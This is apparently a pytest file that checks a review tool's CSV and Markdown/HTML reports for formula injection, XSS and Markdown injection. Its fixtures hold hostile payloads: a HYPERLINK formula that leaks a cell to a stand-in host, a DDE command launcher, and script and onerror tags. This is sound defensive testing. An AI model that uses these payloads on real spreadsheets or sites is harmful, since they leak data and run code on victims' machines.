"""
The review's report files carry what the documents say as text, never as markup or formulas:
flags.csv neutralises every cell a spreadsheet would read as a formula (a single quote before
``= + - @``, a tab or a carriage return, as OWASP's CSV-injection guidance says), and report.md
escapes HTML, backticks, brackets and newlines in file names, family names and licence text, so
that a CommonMark renderer shows them as text and makes no element of them.
"""

from __future__ import annotations

import csv
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from pgflight_review import report

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(document.cookie)</script>"
LINK = "[click](http://evil.example/x) ![i](http://evil.example/i.png) <http://evil.example/auto>"
# a file name with a backtick and a newline that would start a heading of its own
EVIL_PATH = "/src/a`b`` <b>c</b>\n# Injected heading [x](http://evil.example/)\n.txt"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
RUN = report.RunInfo(run_id=5, date="2026-01-02 03:04 UTC", engine_version="9.9", model="m", host="h")


def _results() -> list[dict[str, Any]]:
    flag = {"category": "audit", "severity": "high", "line_start": 3, "line_end": 4}
    return [
        {
            "path": EVIL_PATH,
            "family": IMG,
            "families": [IMG, SCRIPT],
            "flags": [
                {**flag, "quote": HYPERLINK, "family": DDE},
                {**flag, "quote": f"{IMG} and {SCRIPT}", "context": f"{IMG}\n{SCRIPT}\n{LINK}"},
                {**flag, "quote": "+1 tab", "family": "\tTAB-family"},
                {**flag, "quote": "-2 minus", "family": "\rCR-family"},
            ],
            "summary": SCRIPT,
            "step_id": 9,
        },
        {"path": f"/src/{SCRIPT}|x.txt", "family": f"{SCRIPT}\n## fam", "flags": [{**flag, "quote": LINK}]},
        {"path": f"/gone/{IMG}`\n.txt", "status": "dead_letter", "error": f"{SCRIPT} {LINK}"},
    ]


def _write(tmp_path: Path) -> report.ReportFiles:
    skipped = [{"path": f"/skip/{IMG}\n`x`", "reason": f"{LINK}\n# not a heading"}]
    return report.write_report(tmp_path / "out", _results(), {"steps": 3, IMG: SCRIPT}, skipped, run=RUN)


class _Elements(HTMLParser):
    """Every element and attribute of an HTML fragment, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.stack: list[str] = []
        self.headings: list[str] = []
        self.code: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.stack.append(tag)
        if tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
            self.headings.append("")

    def handle_endtag(self, tag: str) -> None:
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if any(t in ("h1", "h2", "h3", "h4", "h5", "h6") for t in self.stack):
            self.headings[-1] += data
        if self.stack and self.stack[-1] == "code":
            self.code.append(data)


@pytest.mark.parametrize("tables", [False, True], ids=["commonmark", "commonmark+tables"])
def test_report_md_renders_names_and_licence_text_as_text_only(tmp_path: Path, tables: bool) -> None:
    md = _write(tmp_path).markdown.read_text(encoding="utf-8")
    renderer = MarkdownIt("commonmark")  # raw HTML allowed, as CommonMark renders it
    if tables:
        renderer.enable(["table", "strikethrough"])
    seen = _Elements()
    seen.feed(renderer.render(md))
    names = {tag for tag, _ in seen.tags}
    assert not names & {"img", "script", "b", "a"}, sorted(names)
    attributes = {a for _, attrs in seen.tags for a in attrs}
    assert not attributes & {"onerror", "src", "href"}, attributes
    # no heading the text made: only the template's own, whatever the names hold
    assert not [h for h in seen.headings if h.startswith(("Injected", "not a heading", "fam", ".txt"))]
    assert f"{SCRIPT} ## fam" in seen.headings  # the family name is one heading, as it was
    text = "".join(seen.text)
    # nothing dropped: the payloads are shown as the text they were
    assert IMG in text and SCRIPT in text and "[click](http://evil.example/x)" in text
    # the file name stays one code span on its line, its backticks and newline visible
    assert "/src/a`b`` <b>c</b>\\n# Injected heading [x](http://evil.example/)\\n.txt" in seen.code


def test_flags_csv_cells_read_as_text_by_a_spreadsheet(tmp_path: Path) -> None:
    with open(_write(tmp_path).csv, newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    assert tuple(header) == report.CSV_COLUMNS
    cells = [c for row in rows for c in row]
    assert rows and not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    quotes = [dict(zip(header, row, strict=True)) for row in rows]
    assert {"'" + HYPERLINK, "'+1 tab", "'-2 minus"} <= {q["quote"] for q in quotes}
    assert {"'" + DDE, "'\tTAB-family", "'\rCR-family"} <= {q["family"] for q in quotes}
    # numbers stay numbers; text that starts otherwise is unchanged
    assert all(q["line_start"] == "3" for q in quotes)
    assert EVIL_PATH in {q["path"] for q in quotes}


def test_a_csv_cell_is_neutralised_only_when_it_starts_a_formula() -> None:
    for start in FORMULA_STARTS:
        assert report.csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert report.csv_cell("GPL-2.0+") == "GPL-2.0+"
    assert report.csv_cell(-3) == -3


def test_a_paged_report_keeps_names_and_licence_text_as_text_on_every_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report, "SINGLE_PAGE_BYTES", 0)  # page even this small report
    monkeypatch.setattr(report, "INDEX_ROWS", 0)  # every list on pages of its own too
    files = _write(tmp_path)
    assert {p.name.split("-")[0] for p in files.pages} >= {"f1", "r", "not", "skipped"}
    for page in [files.html, *(p for p in files.pages if p.suffix == ".html")]:
        html = page.read_text(encoding="utf-8")
        assert "<img" not in html and "<script>alert" not in html and "<b>c</b>" not in html, page.name
        seen = _Elements()
        seen.feed(html)
        assert "img" not in {tag for tag, _ in seen.tags}, page.name
        assert not [a for _, a in seen.tags if "onerror" in a], page.name
        hrefs = [a["href"] or "" for tag, a in seen.tags if tag == "a" and "href" in a]
        # the documents' own file:// links (their paths percent-encoded), else the report's pages
        assert all(
            h.startswith("file:///")
            or re.fullmatch(r"(\.\./report|pages/[\w.-]+|[\w.-]+)\.html(#[\w-]*)?|#[\w-]+", h)
            for h in hrefs
        ), (page.name, hrefs)
        assert sum(1 for tag, _ in seen.tags if tag == "script") <= 1  # the report's own filter script
    renderer = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for page in [files.markdown, *(p for p in files.pages if p.suffix == ".md")]:
        seen = _Elements()
        seen.feed(renderer.render(page.read_text(encoding="utf-8")))
        names = {tag for tag, _ in seen.tags}
        assert not names & {"img", "script", "b"}, (page.name, names)
        hrefs = [a.get("href") or "" for tag, a in seen.tags if tag == "a"]
        assert all(h.endswith(".md") and "evil" not in h for h in hrefs), (page.name, hrefs)
        assert not [h for h in seen.headings if h.startswith(("Injected", "not a heading", "fam", ".txt"))]
